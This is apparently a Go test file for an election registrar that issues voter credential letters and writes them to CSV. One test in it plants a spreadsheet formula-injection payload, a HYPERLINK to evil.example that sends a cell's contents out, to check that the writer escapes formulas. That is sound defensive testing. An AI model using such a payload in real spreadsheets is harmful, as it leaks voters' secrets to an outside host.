package registrar

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"rollcall/crypto/credential"
	"rollcall/crypto/schnorr"
)

func testPeople(n int) []Person {
	people := make([]Person, n)
	for i := range people {
		people[i] = Person{Name: fmt.Sprintf("Person %d", i), Address: []string{"1 Rd"}, Unit: uint64(i % 3), UnitName: "North", Language: "en"}
	}
	return people
}

func issueTo(t testing.TB, n int) (*credential.OPRFKey, []Letter, []VoterKeys) {
	t.Helper()
	key, err := credential.GenerateOPRFKey()
	if err != nil {
		t.Fatal(err)
	}
	letters, keys, err := Issue(t.Context(), IssueParams{ElectionHash: testHash, Key: key}, testPeople(n))
	if err != nil {
		t.Fatal(err)
	}
	return key, letters, keys
}

func TestIssue(t *testing.T) {
	const n = 300
	key, err := credential.GenerateOPRFKey()
	if err != nil {
		t.Fatal(err)
	}
	var calls []int
	people := testPeople(n)
	letters, keys, err := Issue(t.Context(), IssueParams{ElectionHash: testHash, Key: key,
		Progress: func(done, total int) {
			if total != n {
				t.Errorf("total %d", total)
			}
			calls = append(calls, done)
		}}, people)
	if err != nil {
		t.Fatal(err)
	}
	if len(letters) != n || len(keys) != n || len(calls) != n || calls[n-1] != n {
		t.Fatalf("%d letters, %d keys, %d calls", len(letters), len(keys), len(calls))
	}
	voters, ballots, onRoll := map[string]bool{}, map[string]bool{}, map[string]int{}
	for i, k := range keys {
		onRoll[credential.BallotNumber(testHash, k.BallotKey)] = i
	}
	inOrder := 0
	for i, l := range letters {
		if err := errors.Join(credential.VerifyVoterNumber(l.VoterNumber), credential.VerifyPIN(l.PIN),
			credential.VerifyCastCode(l.CastCode), credential.VerifyBallotNumber(l.BallotNumber)); err != nil {
			t.Errorf("letter %d: %v", i, err)
		}
		if l.Person.Name != people[i].Name {
			t.Errorf("letter %d is %s's", i, l.Person.Name)
		}
		voters[l.VoterNumber], ballots[l.BallotNumber] = true, true
		at, ok := onRoll[l.BallotNumber]
		if !ok || keys[at].Unit != l.Person.Unit {
			t.Errorf("letter %d: ballot number not on the roll, or in another unit", i)
		}
		if at == i {
			inOrder++
		}
	}
	if len(voters) != n || len(ballots) != n || len(onRoll) != n {
		t.Errorf("%d voter numbers, %d ballot numbers, %d credentials of %d", len(voters), len(ballots), len(onRoll), n)
	}
	// A random order has one fixed point on average; 20 would be a wonder.
	if inOrder > 20 {
		t.Errorf("%d keys are where their letters are: not shuffled", inOrder)
	}
}

// Many draws collide, with 64 ballot numbers for 30 people: all are redrawn,
// none is lost.
func TestIssueRedrawsBallotNumbers(t *testing.T) {
	key, err := credential.GenerateOPRFKey()
	if err != nil {
		t.Fatal(err)
	}
	drawn := 0
	is := &issuer{params: IssueParams{ElectionHash: testHash, Key: key}}
	is.ballotNumber = func(hash [64]byte, public schnorr.PublicKey) string {
		is.mu.Lock()
		defer is.mu.Unlock()
		drawn++
		return fmt.Sprintf("%012d", public.Bytes()[1]%64)
	}
	letters, _, err := is.issue(t.Context(), testPeople(30))
	if err != nil {
		t.Fatal(err)
	}
	seen := map[string]bool{}
	for _, l := range letters {
		seen[l.BallotNumber] = true
	}
	if len(seen) != 30 {
		t.Errorf("%d ballot numbers for 30 people", len(seen))
	}
	if drawn <= 30 {
		t.Error("nothing collided: the test tests nothing")
	}
}

func TestIssueRefuses(t *testing.T) {
	if _, _, err := Issue(t.Context(), IssueParams{}, testPeople(1)); err == nil {
		t.Error("no key: letters")
	}
	key, err := credential.GenerateOPRFKey()
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(t.Context())
	letters, keys, err := Issue(ctx, IssueParams{Key: key, Progress: func(int, int) { cancel() }}, testPeople(100))
	if !errors.Is(err, context.Canceled) || letters != nil || keys != nil {
		t.Errorf("cancelled: %v", err)
	}
	if letters, keys, err := Issue(t.Context(), IssueParams{Key: key}, nil); err != nil || len(letters)+len(keys) != 0 {
		t.Errorf("nobody: %v", err)
	}
}

func TestDrawDigits(t *testing.T) {
	var first [10]int
	for range 3000 {
		code, err := drawDigits(credential.CastCodeDigits, 4)
		if err != nil {
			t.Fatal(err)
		}
		if err := credential.VerifyCastCode(code); err != nil {
			t.Fatal(err)
		}
		first[code[0]-'0']++
	}
	for d := 4; d < 10; d++ { // 500 expected, standard deviation 20
		if first[d] < 350 || first[d] > 650 {
			t.Errorf("first digit %d came %d times of 3000", d, first[d])
		}
	}
}

func TestWriteLetters(t *testing.T) {
	_, letters, _ := issueTo(t, 3)
	letters[1].Person.Name = "=HYPERLINK(\"http://evil.example/?\"&E3)"
	letters[1].Person.Address = []string{"@SUM(1)"}
	letters[2].Person.Address = []string{"1 Rd\nflat \"3\", rear"}
	path := filepath.Join(t.TempDir(), "letters.csv")
	head := LetterHead{ElectionID: "ID", Phone: "+1 555 010-0199", AddressColumns: []string{"street"}}
	if err := WriteLetters(path, head, letters); err != nil {
		t.Fatal(err)
	}
	info, err := os.Stat(path)
	if err != nil || info.Mode().Perm() != 0o600 {
		t.Errorf("mode %v, %v", info.Mode(), err)
	}
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	lines, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
	if err != nil || len(lines) != 4 {
		t.Fatalf("%d lines, %v", len(lines), err)
	}
	if got := strings.Join(lines[0], ","); got != "name,unit,language,voter_number,pin,cast_code,ballot_number,election_id,phone,street" {
		t.Errorf("columns %s", got)
	}
	for i, l := range letters {
		line := lines[i+1]
		for at, want := range map[int]string{3: l.VoterNumber, 4: l.PIN, 5: l.CastCode, 6: l.BallotNumber} {
			if strings.ReplaceAll(line[at], " ", "") != want || !strings.Contains(line[at], " ") {
				t.Errorf("letter %d, column %d is wrong", i, at)
			}
		}
		if line[7] != "ID" || line[8] != head.Phone {
			t.Errorf("letter %d: head %q", i, line[7:9])
		}
		for _, at := range []int{0, 1, 2, 9} {
			if strings.ContainsAny(line[at][:1], "=+-@") {
				t.Errorf("letter %d, column %d is a formula: %s", i, at, line[at])
			}
		}
	}
	if lines[2][0] != "'"+letters[1].Person.Name || lines[3][9] != letters[2].Person.Address[0] {
		t.Errorf("cells came out as %q and %q", lines[2][0], lines[3][9])
	}

	// Never twice: the first may be in the mail.
	if err := WriteLetters(path, head, letters[:1]); !errors.Is(err, fs.ErrExist) {
		t.Errorf("overwriting: %v, want ErrExist", err)
	}
	if again, err := os.ReadFile(path); err != nil || !bytes.Equal(again, b) {
		t.Error("the file was changed")
	}
	mustBeAlone(t, path)
}

// mustBeAlone fails if a temporary file with secrets was left beside path.
func mustBeAlone(t testing.TB, path string) {
	t.Helper()
	entries, err := os.ReadDir(filepath.Dir(path))
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range entries {
		if e.Name() != filepath.Base(path) {
			t.Errorf("%s was left behind", e.Name())
		}
	}
}

func TestWriteLettersRefuses(t *testing.T) {
	_, letters, _ := issueTo(t, 1)
	good := LetterHead{ElectionID: "ID", Phone: "555", AddressColumns: []string{"street"}}
	for name, change := range map[string]func(*LetterHead, *string){
		"no phone":              func(h *LetterHead, _ *string) { h.Phone = "" },
		"formula for a phone":   func(h *LetterHead, _ *string) { h.Phone = "=1+1" },
		"address cells missing": func(h *LetterHead, _ *string) { h.AddressColumns = []string{"street", "town"} },
		"no folder":             func(_ *LetterHead, p *string) { *p = filepath.Join(*p, "none", "letters.csv") },
		"a link that dangles":   func(_ *LetterHead, p *string) { os.Symlink("nowhere", *p) },
	} {
		head, path := good, filepath.Join(t.TempDir(), "letters.csv")
		change(&head, &path)
		err := WriteLetters(path, head, letters)
		if err == nil {
			t.Errorf("%s: written", name)
		}
		mustNotTell(t, err, letters[0].PIN, letters[0].VoterNumber, letters[0].CastCode)
		if filepath.Dir(path) != "" && name != "no folder" {
			mustBeAlone(t, path)
		}
	}
}

func TestSecretsDoNotPrint(t *testing.T) {
	l := Letter{Person: Person{Name: "Ada"}, VoterNumber: testVoter, PIN: testPIN, CastCode: testCode}
	r := Request{Purpose: pin, VoterNumber: testVoter}
	for _, verb := range []string{"%v", "%+v", "%#v", "%s", "%q", "%x", "%d"} {
		for _, v := range []any{l, &l, r, &r, []Letter{l}, []Request{r}} {
			text := fmt.Sprintf(verb, v)
			for _, secret := range []string{testVoter, testPIN, testCode, "Ada", fmt.Sprintf("%x", testPIN)} {
				if strings.Contains(text, secret) {
					t.Errorf("%s of a %T prints a secret", verb, v)
				}
			}
		}
	}
}

func BenchmarkIssue(b *testing.B) {
	key, err := credential.GenerateOPRFKey()
	if err != nil {
		b.Fatal(err)
	}
	people := testPeople(100)
	for b.Loop() {
		if _, _, err := Issue(b.Context(), IssueParams{ElectionHash: testHash, Key: key}, people); err != nil {
			b.Fatal(err)
		}
	}
}

// TestIssueAuditors: an auditor's letter has everything but a cast code, and the roll
// keys that are like all others.
func TestIssueAuditors(t *testing.T) {
	key, err := credential.GenerateOPRFKey()
	if err != nil {
		t.Fatal(err)
	}
	people := testPeople(40)
	for i := 30; i < 40; i++ {
		people[i].Name, people[i].Auditor = fmt.Sprintf("Auditor %d", i-29), true
	}
	letters, keys, err := Issue(t.Context(), IssueParams{ElectionHash: testHash, Key: key}, people)
	if err != nil {
		t.Fatal(err)
	}
	is := &issuer{params: IssueParams{ElectionHash: testHash, Key: key}, ballotNumber: credential.BallotNumber}
	auditors, last, used := map[string]bool{}, 0, map[string]bool{}
	for i, k := range keys {
		if k.Auditor {
			auditors[credential.BallotNumber(testHash, k.BallotKey)], last = true, i
		}
		for _, b := range [][]byte{k.BallotKey.Bytes(), k.CastKey.Bytes()} {
			if used[string(b)] {
				t.Errorf("key %d stands on the roll twice", i)
			}
			used[string(b)] = true
		}
	}
	if len(auditors) != 10 || last == 9 {
		t.Errorf("%d auditors on the roll, the last at %d", len(auditors), last)
	}
	for i, l := range letters {
		if err := errors.Join(credential.VerifyVoterNumber(l.VoterNumber), credential.VerifyPIN(l.PIN), credential.VerifyBallotNumber(l.BallotNumber)); err != nil {
			t.Errorf("letter %d: %v", i, err)
		}
		if (l.CastCode == "") != (i >= 30) || auditors[l.BallotNumber] != (i >= 30) {
			t.Errorf("letter %d: cast code of %d digits, an auditor's on the roll: %v", i, len(l.CastCode), auditors[l.BallotNumber])
		}
		if ballot, err := is.deriveBallotKey(l); err != nil || credential.BallotNumber(testHash, ballot) != l.BallotNumber {
			t.Errorf("letter %d: its PIN gives another ballot key (%v)", i, err)
		}
	}
	var b bytes.Buffer
	if err := encodeLetters(&b, LetterHead{ElectionID: "ID", Phone: "1", AddressColumns: []string{"street"}}, letters[29:31]); err != nil {
		t.Fatal(err)
	}
	lines, err := csv.NewReader(&b).ReadAll()
	if err != nil || len(lines) != 3 || lines[1][5] == "" || lines[2][5] != "" || lines[2][0] != "Auditor 1" || len(lines[2]) != len(lines[0]) {
		t.Errorf("letters of a voter and an auditor: %q, %v", lines, err)
	}
}
